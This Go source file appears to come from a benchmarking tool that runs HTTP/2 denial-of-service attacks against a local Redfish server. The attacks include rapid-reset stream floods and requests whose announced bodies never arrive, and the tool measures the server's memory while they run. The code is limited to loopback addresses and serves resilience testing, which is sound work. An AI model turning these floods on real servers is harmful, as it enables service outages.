package rfbench

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/bmlab/bmlab/internal/pace"
)

// The HTTP/2 attacks of issue 32. Each opens connections from one or more
// loopback source addresses (127.0.0.1, 127.0.0.2, …), writes HTTP/2 frames
// itself (golang.org/x/net/http2's Framer: an attacker does not follow a
// client library's manners) and holds them for a while, sampling the
// server's resident memory from /proc, then closes everything and watches
// the memory come back.

// h2Kind is one HTTP/2 attack.
type h2Kind struct {
	about string
	// auth: the streams carry the credentials of a ReadOnly account that
	// the attack makes first (with the administrator's credentials) and
	// removes after.
	auth   bool
	method string
	path   func(t *h2Target) string
	// length is the Content-Length announced; -1 announces none.
	length int
	// endStream: the request has no body (HEADERS ends the stream);
	// otherwise the body never comes.
	endStream bool
	// reset: each stream is reset (RST_STREAM CANCEL) right after it is
	// opened, and another opened, as fast as the connection takes them.
	reset bool
	// chunked, when set, makes it a body attack (bodyattack.go): HTTP/1.1,
	// one request a connection, a chunked body of this many bytes that
	// starts with prefix and never ends.
	chunked int
	prefix  string
}

// h2Target is what the attack learned about the server first.
type h2Target struct {
	base    *url.URL
	account string // the ReadOnly account's URI
	user    string
	pass    string
}

var h2Kinds = map[string]h2Kind{
	"h2-announced-body": {
		about:  "PATCHes of the caller's own account (a ReadOnly account holds ConfigureSelf) announcing Content-Length: 1048576 and sending no byte of the body",
		auth:   true,
		method: "PATCH",
		path:   func(t *h2Target) string { return t.account },
		length: 1 << 20,
	},
	"h2-bodiless-auth": {
		about:  "PATCHes of the caller's own account (ReadOnly) announcing no length, whose body never comes",
		auth:   true,
		method: "PATCH",
		path:   func(t *h2Target) string { return t.account },
		length: -1,
	},
	"h2-bodiless-login": {
		about:  "session logins without credentials whose body never comes",
		method: "POST",
		path:   func(*h2Target) string { return "/redfish/v1/SessionService/Sessions" },
		length: -1,
	},
	"h2-stream-flood": {
		about:     "GETs of the Systems collection as a ReadOnly account, each stream reset as soon as it is sent and another sent in its place (rapid reset)",
		auth:      true,
		method:    "GET",
		path:      func(*h2Target) string { return "/redfish/v1/Systems" },
		length:    -1,
		endStream: true,
		reset:     true,
	},
}

// H2Kinds names the HTTP/2 attacks, sorted.
func H2Kinds() []string { return heldKinds(false) }

// BodyKinds names the body attacks (bodyattack.go), sorted.
func BodyKinds() []string { return heldKinds(true) }

func heldKinds(body bool) []string {
	var out []string
	for k, kind := range h2Kinds {
		if kind.chunked > 0 == body {
			out = append(out, k)
		}
	}
	sort.Strings(out)
	return out
}

// H2Config is one run of an HTTP/2 attack.
type H2Config struct {
	URL       string // https://127.0.0.1:PORT
	Kind      string
	User      string // the administrator, to make the ReadOnly account and to probe
	Password  string
	ServerPID int
	Sources   int // source addresses 127.0.0.1 … 127.0.0.N
	Conns     int // connections per source
	Streams   int // streams per connection; 0: as many as the server allows
	Hold      time.Duration
	Settle    time.Duration // watched after everything is closed
	// MaxRSS stops the attack when the server's resident memory passes
	// it (bytes; 0: no ceiling), so that a server that grows does not
	// take the machine with it.
	MaxRSS int64
}

// H2Result is what an HTTP/2 attack saw.
type H2Result struct {
	Config      H2Config
	About       string
	MaxStreams  uint32 // the server's SETTINGS_MAX_CONCURRENT_STREAMS (0: unlimited)
	Conns       int    // connections that got the server's SETTINGS
	ConnsFailed int    // refused at connect, at TLS or before SETTINGS
	Streams     int64  // streams opened
	Outcomes    map[string]int
	Elapsed     time.Duration // from the first connection to the end of the hold

	Before, Peak, End, Settled int64 // server VmRSS, bytes
	PeakAt                     time.Duration
	// After is VmRSS at 1, 5, 10, 20, 30… s after everything was closed,
	// up to Settle (the last is Settled).
	After     []Sample
	Stopped   bool // MaxRSS was passed
	StoppedAt time.Duration

	// Probes made during the hold from a source of their own (127.0.0.254):
	// a GET with the administrator's Basic credentials and a session login.
	ProbeGET, ProbeLogin string
}

// Sample is the server's VmRSS some time after the attack.
type Sample struct {
	At  time.Duration
	RSS int64
}

// H2Attack runs one HTTP/2 attack and reports what it saw.
func H2Attack(ctx context.Context, cfg H2Config) (*H2Result, error) {
	kind, ok := h2Kinds[cfg.Kind]
	if !ok {
		return nil, fmt.Errorf("-attack %q: want one of %s", cfg.Kind, strings.Join(append(H2Kinds(), BodyKinds()...), ", "))
	}
	base, err := url.Parse(cfg.URL)
	if err != nil {
		return nil, err
	}
	if base.Scheme != "https" {
		return nil, fmt.Errorf("%s speaks HTTP/2 over TLS: give an https -url", cfg.Kind)
	}
	if err := loopbackOnly(base.Hostname()); err != nil {
		return nil, err
	}
	if cfg.ServerPID == 0 {
		return nil, errors.New("-attack needs the server's PID (-server-pid) to read its memory")
	}
	if cfg.Sources < 1 || cfg.Sources > 250 {
		return nil, errors.New("-sources: want 1 to 250 (127.0.0.1 to 127.0.0.250)")
	}
	if cfg.Conns < 1 {
		return nil, errors.New("-c: want at least one connection per source")
	}
	t := &h2Target{base: base, user: cfg.User, pass: cfg.Password}
	admin := *t
	if kind.auth {
		cleanup, err := makeReadOnly(ctx, t)
		if err != nil {
			return nil, err
		}
		defer cleanup()
	}
	before, err := rss(cfg.ServerPID)
	if err != nil {
		return nil, err
	}
	res := &H2Result{Config: cfg, About: kind.about, Outcomes: map[string]int{}, Before: before.rss, Peak: before.rss}
	actx, stop := context.WithCancel(ctx)
	defer stop()

	// Memory, every 50 ms, until the hold ends.
	start := time.Now()
	sampled := make(chan struct{})
	go func() {
		defer close(sampled)
		pace.Every(actx, 50*time.Millisecond, func() bool {
			m, err := rss(cfg.ServerPID)
			if err != nil {
				return true
			}
			if m.rss > res.Peak {
				res.Peak, res.PeakAt = m.rss, time.Since(start)
			}
			if cfg.MaxRSS > 0 && m.rss > cfg.MaxRSS {
				res.Stopped, res.StoppedAt = true, time.Since(start)
				stop()
				return false
			}
			return true
		})
	}()

	var (
		mu    sync.Mutex
		conns []*h2Conn
		wg    sync.WaitGroup
		dials = make(chan struct{}, 64) // TLS handshakes at once
	)
	count := func(k string) {
		mu.Lock()
		res.Outcomes[k]++
		mu.Unlock()
	}
	var streams, h1Conns atomic.Int64
	for s := range cfg.Sources {
		src := net.IPv4(127, 0, 0, byte(1+s))
		for range cfg.Conns {
			wg.Go(func() {
				if kind.chunked > 0 {
					h1Loop(actx, kind, t, src, dials, &h1Conns, &streams, count)
					return
				}
				select {
				case dials <- struct{}{}:
				case <-actx.Done():
					return
				}
				c, err := dialH2(actx, t.base, src)
				<-dials
				if err != nil {
					count("connection refused or closed: " + short(err))
					mu.Lock()
					res.ConnsFailed++
					mu.Unlock()
					return
				}
				mu.Lock()
				conns = append(conns, c)
				res.Conns++
				if res.MaxStreams == 0 || c.maxStreams < res.MaxStreams {
					res.MaxStreams = c.maxStreams
				}
				mu.Unlock()
				c.run(actx, kind, t, cfg.Streams, &streams, count)
			})
		}
	}
	// The probes, halfway through the hold, from a source of their own.
	probed := make(chan struct{})
	go func() {
		defer close(probed)
		select {
		case <-time.After(cfg.Hold / 2):
		case <-actx.Done():
			return
		}
		res.ProbeGET, res.ProbeLogin = probe(actx, &admin)
	}()
	select {
	case <-time.After(cfg.Hold):
	case <-actx.Done():
	}
	res.Elapsed = time.Since(start)
	stop()
	<-sampled
	<-probed
	if m, err := rss(cfg.ServerPID); err == nil {
		res.End = m.rss
	}
	mu.Lock()
	for _, c := range conns {
		c.close()
	}
	mu.Unlock()
	wg.Wait()
	res.Streams = streams.Load()
	if kind.chunked > 0 {
		res.Conns = int(h1Conns.Load())
	}
	closed := time.Now()
	for _, at := range settleTimes(cfg.Settle) {
		select {
		case <-time.After(time.Until(closed.Add(at))):
		case <-ctx.Done():
			return res, nil
		}
		if m, err := rss(cfg.ServerPID); err == nil {
			res.After = append(res.After, Sample{at, m.rss})
			res.Settled = m.rss
		}
	}
	return res, nil
}

// settleTimes are when memory is read after the attack: 1, 5, 10 s, then
// every 10 s, up to settle.
func settleTimes(settle time.Duration) []time.Duration {
	var out []time.Duration
	for _, at := range []time.Duration{time.Second, 5 * time.Second, 10 * time.Second} {
		if at < settle {
			out = append(out, at)
		}
	}
	for at := 20 * time.Second; at < settle; at += 10 * time.Second {
		out = append(out, at)
	}
	return append(out, settle)
}

// Report prints r.
func (r *H2Result) Report(out io.Writer) {
	c := r.Config
	fmt.Fprintf(out, "attack %s: %s\n", c.Kind, r.About)
	streams := "as many as the server allows"
	if c.Streams > 0 {
		streams = strconv.Itoa(c.Streams)
	}
	if h2Kinds[c.Kind].chunked > 0 {
		fmt.Fprintf(out, "sources: %d (127.0.0.1-127.0.0.%d), %d HTTP/1.1 connections each, one request a connection (another when the server closes one), held %v\n",
			c.Sources, c.Sources, c.Conns, c.Hold)
		fmt.Fprintf(out, "connections: %d made; requests: %d in %v\n", r.Conns, r.Streams, r.Elapsed.Round(time.Millisecond))
	} else {
		fmt.Fprintf(out, "sources: %d (127.0.0.1-127.0.0.%d), %d connections each, streams per connection: %s (server's limit %s), held %v\n",
			c.Sources, c.Sources, c.Conns, streams, maxStreamsText(r.MaxStreams), c.Hold)
		fmt.Fprintf(out, "connections: %d with the server's SETTINGS, %d refused; streams opened: %d in %v\n",
			r.Conns, r.ConnsFailed, r.Streams, r.Elapsed.Round(time.Millisecond))
	}
	writeTally(out, 60, r.Outcomes)
	if r.ProbeGET != "" {
		fmt.Fprintf(out, "during the attack, from 127.0.0.254: GET as the administrator %s; session login %s\n", r.ProbeGET, r.ProbeLogin)
	}
	if r.Stopped {
		fmt.Fprintf(out, "STOPPED: the server's VmRSS passed %.0f MB %.1f s into the attack\n", mb(c.MaxRSS), r.StoppedAt.Seconds())
	}
	var after []string
	for _, s := range r.After {
		after = append(after, fmt.Sprintf("%.1f MB at %v", mb(s.RSS), s.At))
	}
	fmt.Fprintf(out, "server VmRSS: %.1f MB before, peak %.1f MB (%.1f s in), %.1f MB at the end of the hold; after closing: %s\n",
		mb(r.Before), mb(r.Peak), r.PeakAt.Seconds(), mb(r.End), strings.Join(after, ", "))
}

func maxStreamsText(n uint32) string {
	if n == 0 || n == ^uint32(0) {
		return "none"
	}
	return strconv.Itoa(int(n))
}

// short is an error's last part ("connection reset by peer").
func short(err error) string {
	msg := err.Error()
	if j := strings.LastIndex(msg, ": "); j >= 0 {
		msg = msg[j+2:]
	}
	return msg
}

// h2Conn is one attacking connection.
type h2Conn struct {
	nc         net.Conn
	fr         *http2.Framer
	wmu        sync.Mutex // the framer's writes and the encoder
	enc        *hpack.Encoder
	hbuf       bytes.Buffer
	maxStreams uint32
	freed      chan struct{} // a stream the server ended
	closed     atomic.Bool
}

// dialH2 connects from src, over TLS with ALPN h2, sends the preface and
// reads the server's SETTINGS.
func dialH2(ctx context.Context, base *url.URL, src net.IP) (*h2Conn, error) {
	tc, err := tlsFrom(ctx, base, src, "h2")
	if err != nil {
		return nil, err
	}
	if p := tc.ConnectionState().NegotiatedProtocol; p != "h2" {
		tc.Close()
		return nil, fmt.Errorf("the server did not offer h2 (ALPN %q)", p)
	}
	c := &h2Conn{nc: tc, fr: http2.NewFramer(tc, tc)}
	c.enc = hpack.NewEncoder(&c.hbuf)
	c.fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	c.fr.MaxHeaderListSize = 1 << 20
	_ = tc.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := io.WriteString(tc, http2.ClientPreface); err != nil {
		tc.Close()
		return nil, err
	}
	// A big window: the server's answers are never held up by us.
	if err := c.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30}); err != nil {
		tc.Close()
		return nil, err
	}
	f, err := c.fr.ReadFrame()
	if err != nil {
		tc.Close()
		return nil, err
	}
	sf, ok := f.(*http2.SettingsFrame)
	if !ok {
		tc.Close()
		return nil, fmt.Errorf("the server's first frame is %v, not SETTINGS", f.Header().Type)
	}
	c.maxStreams = ^uint32(0)
	if v, ok := sf.Value(http2.SettingMaxConcurrentStreams); ok {
		c.maxStreams = v
	}
	if err := c.fr.WriteSettingsAck(); err != nil {
		tc.Close()
		return nil, err
	}
	_ = tc.SetDeadline(time.Time{})
	return c, nil
}

func (c *h2Conn) close() {
	if c.closed.CompareAndSwap(false, true) {
		c.nc.Close()
	}
}

// run opens streams of kind and keeps as many open as allowed (or resets
// and reopens them, for a flood) until ctx ends or the server closes the
// connection.
func (c *h2Conn) run(ctx context.Context, kind h2Kind, t *h2Target, want int, streams *atomic.Int64, count func(string)) {
	limit := int(min(c.maxStreams, 1<<16))
	if want > 0 {
		limit = want
	}
	c.freed = make(chan struct{}, limit+1)
	done := make(chan struct{})
	go func() {
		defer close(done)
		c.read(count)
	}()
	context.AfterFunc(ctx, c.close)
	headers := c.headers(kind, t)
	id := uint32(1)
	open := 0
	for !c.closed.Load() {
		if kind.reset {
			if c.writeStream(id, headers, kind.endStream) != nil || c.rst(id) != nil {
				break
			}
			streams.Add(1)
			id += 2
			continue
		}
		for open < limit && !c.closed.Load() {
			if c.writeStream(id, headers, kind.endStream) != nil {
				c.close()
				break
			}
			streams.Add(1)
			id += 2
			open++
		}
		select {
		case <-c.freed:
			open--
		case <-done:
			c.close()
		}
		if id > 1<<30 {
			break
		}
	}
	c.close()
	<-done
}

func (c *h2Conn) headers(kind h2Kind, t *h2Target) [][2]string {
	h := [][2]string{
		{":method", kind.method}, {":scheme", "https"}, {":authority", t.base.Host}, {":path", kind.path(t)},
		{"odata-version", "4.0"},
	}
	if kind.auth {
		h = append(h, [2]string{"authorization", "Basic " + basicCredentials(t.user, t.pass)})
	}
	if kind.method != "GET" {
		h = append(h, [2]string{"content-type", "application/json"})
	}
	if kind.length >= 0 {
		h = append(h, [2]string{"content-length", strconv.Itoa(kind.length)})
	}
	return h
}

func (c *h2Conn) writeStream(id uint32, headers [][2]string, end bool) error {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	c.hbuf.Reset()
	for _, kv := range headers {
		_ = c.enc.WriteField(hpack.HeaderField{Name: kv[0], Value: kv[1]})
	}
	return c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.hbuf.Bytes(), EndStream: end, EndHeaders: true})
}

func (c *h2Conn) rst(id uint32) error {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	return c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
}

// read counts what the server answers and frees a place for each stream
// it ends.
func (c *h2Conn) read(count func(string)) {
	ended := map[uint32]bool{} // streams already freed (an answer's end, then a reset)
	freed := func(id uint32) {
		if ended[id] {
			return
		}
		ended[id] = true
		if len(ended) > 1<<16 {
			clear(ended) // old streams' resets come right after their ends
		}
		select {
		case c.freed <- struct{}{}:
		default:
		}
	}
	for {
		f, err := c.fr.ReadFrame()
		if err != nil {
			if !c.closed.Load() {
				count("connection closed by the server: " + short(err))
			}
			return
		}
		switch f := f.(type) {
		case *http2.MetaHeadersFrame:
			if st := f.PseudoValue("status"); st != "" {
				count("answered " + st)
			}
			if f.StreamEnded() {
				freed(f.StreamID)
			}
		case *http2.DataFrame:
			if n := uint32(len(f.Data())); n > 0 {
				c.wmu.Lock()
				_ = c.fr.WriteWindowUpdate(0, n)
				c.wmu.Unlock()
			}
			if f.StreamEnded() {
				freed(f.StreamID)
			}
		case *http2.RSTStreamFrame:
			count("stream reset by the server: " + f.ErrCode.String())
			freed(f.StreamID)
		case *http2.GoAwayFrame:
			count("GOAWAY: " + f.ErrCode.String())
		case *http2.SettingsFrame:
			if !f.IsAck() {
				c.wmu.Lock()
				_ = c.fr.WriteSettingsAck()
				c.wmu.Unlock()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				c.wmu.Lock()
				_ = c.fr.WritePing(true, f.Data)
				c.wmu.Unlock()
			}
		}
	}
}

// adminClient is an HTTPS client from src, over HTTP/1.1.
func adminClient(src net.IP) *http.Client { return insecureClient(src, 15*time.Second) }

// makeReadOnly makes a ReadOnly account with the administrator's
// credentials and points t at it; cleanup deletes it.
func makeReadOnly(ctx context.Context, t *h2Target) (cleanup func(), err error) {
	c := adminClient(net.IPv4(127, 0, 0, 254))
	var rnd [6]byte
	_, _ = rand.Read(rnd[:])
	user, pass := "rfbench-"+hex.EncodeToString(rnd[:3]), "Rb-"+hex.EncodeToString(rnd[:])
	body, _ := json.Marshal(map[string]string{"UserName": user, "Password": pass, "RoleId": "ReadOnly"})
	r, _ := http.NewRequestWithContext(ctx, "POST", t.base.String()+"/redfish/v1/AccountService/Accounts", bytes.NewReader(body))
	r.Header.Set("Content-Type", "application/json")
	r.SetBasicAuth(t.user, t.pass)
	resp, err := c.Do(r)
	if err != nil {
		return nil, fmt.Errorf("make a ReadOnly account: %w", err)
	}
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 64<<10))
	resp.Body.Close()
	if resp.StatusCode != http.StatusCreated {
		return nil, fmt.Errorf("make a ReadOnly account: %s: %s", resp.Status, b)
	}
	loc := resp.Header.Get("Location")
	if u, err := url.Parse(loc); err == nil {
		loc = u.Path
	}
	if loc == "" {
		return nil, errors.New("make a ReadOnly account: no Location in the answer")
	}
	admin := *t
	t.account, t.user, t.pass = loc, user, pass
	// One request with the new credentials first: the attack's streams
	// then find them verified (a server's cache), as an attacker who logs
	// in once would.
	r, _ = http.NewRequestWithContext(ctx, "GET", t.base.String()+loc, nil)
	r.SetBasicAuth(user, pass)
	if resp, err := c.Do(r); err == nil {
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}
	return func() {
		r, _ := http.NewRequest("DELETE", admin.base.String()+loc, nil)
		r.SetBasicAuth(admin.user, admin.pass)
		if resp, err := c.Do(r); err == nil {
			resp.Body.Close()
		}
		c.CloseIdleConnections()
	}, nil
}

// probe times a GET with t's Basic credentials and a session login, from
// 127.0.0.254; each is "STATUS in DURATION" or why it failed.
func probe(ctx context.Context, t *h2Target) (get, login string) {
	c := adminClient(net.IPv4(127, 0, 0, 254))
	defer c.CloseIdleConnections()
	do := func(r *http.Request) string {
		start := time.Now()
		resp, err := c.Do(r)
		took := time.Since(start).Round(100 * time.Microsecond)
		if err != nil {
			return fmt.Sprintf("failed (%s) after %v", short(err), took)
		}
		io.Copy(io.Discard, io.LimitReader(resp.Body, 1<<20))
		resp.Body.Close()
		if resp.StatusCode == http.StatusCreated {
			if loc := resp.Header.Get("Location"); loc != "" {
				d, _ := http.NewRequestWithContext(ctx, "DELETE", t.base.String()+loc, nil)
				d.Header.Set("X-Auth-Token", resp.Header.Get("X-Auth-Token"))
				if resp, err := c.Do(d); err == nil {
					resp.Body.Close()
				}
			}
		}
		return fmt.Sprintf("%s in %v", resp.Status, took)
	}
	r, _ := http.NewRequestWithContext(ctx, "GET", t.base.String()+"/redfish/v1/Systems", nil)
	r.SetBasicAuth(t.user, t.pass)
	get = do(r)
	body, _ := json.Marshal(map[string]string{"UserName": t.user, "Password": t.pass})
	r, _ = http.NewRequestWithContext(ctx, "POST", t.base.String()+"/redfish/v1/SessionService/Sessions", bytes.NewReader(body))
	r.Header.Set("Content-Type", "application/json")
	login = do(r)
	return get, login
}
